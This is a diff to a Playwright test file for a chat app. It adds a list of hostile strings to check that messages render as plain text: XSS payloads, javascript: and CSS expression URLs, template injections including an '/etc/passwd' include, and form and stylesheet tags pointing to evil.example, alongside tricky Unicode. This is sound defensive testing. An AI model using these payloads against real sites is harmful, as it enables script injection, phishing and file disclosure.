@@ -55,7 +55,34 @@ NAUGHTY = [
     "line\u2028separator\u2029paragraph",
     "http://",
     "https://example.org:99999999/ https://[::1 http://%zz",
+    "<details open ontoggle=alert(1)><summary>Open</summary></details>",
+    "<input autofocus onfocus=alert(1)> <video><source onerror=alert(1)></video>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<object data=data:text/html,x></object><embed src=//evil.example/>",
+    "<form action=//evil.example/><button>Log in again</button></form>",
+    "<link rel=stylesheet href=//evil.example/x.css><div style='position:fixed;inset:0'>",
+    "<img src=`x` onerror=alert`1`> <IMG SRC=x ONERROR=alert(1)> <img/src/onerror=alert(1)>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt> <\u200bscript>alert(1)</script>",
+    "</textarea></title></style></script><script>alert(1)</script>",
+    "]]><![CDATA[<script>alert(1)</script>]]> <?php phpinfo(); ?>",
+    "&#60;script&#62;alert(1)&#x3c;/script&#x3E; &lt &colon; &NewLine; &#0;",
+    "＜script＞alert(1)＜/script＞ ‹script› ʺonclick=alert(1)ʺ",
+    "background: url(javascript:alert(1)); width: expression(alert(1)); @import '//evil.example'",
+    "{{constructor.constructor('alert(1)')()}} [[7*7]] {% include '/etc/passwd' %} {{{raw}}}",
+    "java\tscript:alert(1) java\nscript:alert(1) feed:javascript:alert(1) blob:x about:blank",
+    "\u202e\u202d\u202b\u202a five that are never ended \u2067\u2068",
+    "soft\u00adhyphen word\u2060joiner filler\u3164 blank\u2800 \u034f tags\U000e0061\U000e007f",
+    "private \ue000\uf8ff and none \ufffe\uffff\U0010ffff replaced \ufffd",
+    "stacked a" + "\u0321\u0489\u20dd" * 40 + " b",
+    "İstanbul ıI ß ﬁ Å Å ǅ ﷺ ௵ ‱",
+    "👨🏾‍❤️‍💋‍👨🏻 1️⃣ ☺︎ ☺️ 🧑🏿‍🦽‍➡️ 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇺🇺🇳 🏿",
+    "Don" + "au\u00ad" * 150 + "dampf",
+    "x" * 1_990 + " and end",
 ]
+# No more than the room shows at once after a reload.
+A_PAGE = 40
+# A page waits between lines when it has sent forty frames at once.
+SENT_MS = 30_000
 SAFE = {
     "See https://example.org/a?b=c&d=(e)#f, please.": ["https://example.org/a?b=c&d=(e)#f"],
     "(http://example.org/x_(y)) http://example.org.": [
@@ -84,6 +111,20 @@ def read_bodies(page: Page) -> list[str]:
     return page.locator("[data-log] .message__body").all_text_contents()
 
 
+def batched(texts: list[str], size: int) -> list[list[str]]:
+    return [texts[start : start + size] for start in range(0, len(texts), size)]
+
+
+def expect_plain(page: Page, texts: list[str]) -> None:
+    """The newest lines are these texts, letter by letter, and break neither page nor phone."""
+    page.set_viewport_size({"width": 320, "height": 700})
+    assert read_bodies(page)[-len(texts) :] == texts
+    links = page.locator(".message__body a")
+    assert all("javascript" not in (a.get_attribute("href")) for a in links.all())
+    assert page.locator(".message__body > :not(a)").count() == 0
+    assert page.evaluate("document.documentElement.scrollWidth") <= 320
+
+
 def test_naughty_texts_are_text(world: World, browser: Browser):
     with (
         person(browser, world, "student_a") as student,
@@ -93,20 +134,16 @@ def test_naughty_texts_are_text(world: World, browser: Browser):
         wait_until_live(teacher)
         for page in (student, teacher):
             page.on("console", partial(note_error, page.problems))
-        for text in NAUGHTY:
-            write(student, text)
-        for page in (student, teacher):
-            expect(page.locator("[data-log] article")).to_have_count(len(NAUGHTY) + 1)
-            expect(page.locator("[data-pending]")).to_have_count(0)
-            for _ in range(2):
-                assert read_bodies(page)[-len(NAUGHTY) :] == NAUGHTY
-                links = page.locator(".message__body a")
-                assert all("javascript" not in (a.get_attribute("href")) for a in links.all())
-                assert page.locator(".message__body > :not(a)").count() == 0
-                page.set_viewport_size({"width": 320, "height": 700})
-                assert page.evaluate("document.documentElement.scrollWidth") <= 320
-                page.reload()
-                wait_until_live(page)
+        for texts in batched(NAUGHTY, A_PAGE):
+            for text in texts:
+                write(student, text)
+            for page in (student, teacher):
+                expect(page.locator("[data-pending]")).to_have_count(0, timeout=SENT_MS)
+                expect(page.locator("[data-log] .message__body").last).to_have_text(texts[-1])
+                for _ in range(2):
+                    expect_plain(page, texts)
+                    page.reload()
+                    wait_until_live(page)
 
 
 def test_only_web_addresses_become_links(world: World, browser: Browser):
